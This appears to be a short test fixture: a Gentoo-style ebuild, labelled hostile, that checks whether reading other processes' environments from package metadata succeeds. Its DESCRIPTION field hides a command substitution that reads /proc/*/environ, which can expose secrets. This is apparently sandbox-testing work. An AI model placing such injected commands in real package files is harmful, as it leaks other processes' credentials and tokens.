# try: puts the environment of other processes into its description
# outcome: succeeds
EAPI=8
inherit hostile
DESCRIPTION="seen: $(peek /proc/1/environ /proc/self/environ /proc/2/environ /proc/*/environ | tr '\n' ' ' | head -c 20000)"
